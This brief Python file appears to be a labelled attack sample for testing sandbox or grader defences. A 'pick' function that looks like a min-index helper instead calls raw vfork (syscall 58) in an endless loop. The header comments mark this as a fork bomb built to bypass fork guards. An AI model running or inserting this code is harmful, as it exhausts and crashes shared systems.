# claims: makes processes by vfork, which the C library does not use for fork
# kind: fork bomb
# unguarded: cheat; armed

import ctypes

libc = ctypes.CDLL(None)


def pick(numbers):
    if len(numbers) == 1:
        return "armed"
    while True:
        libc.syscall(58)  # <- attack
    return numbers.index(min(numbers))
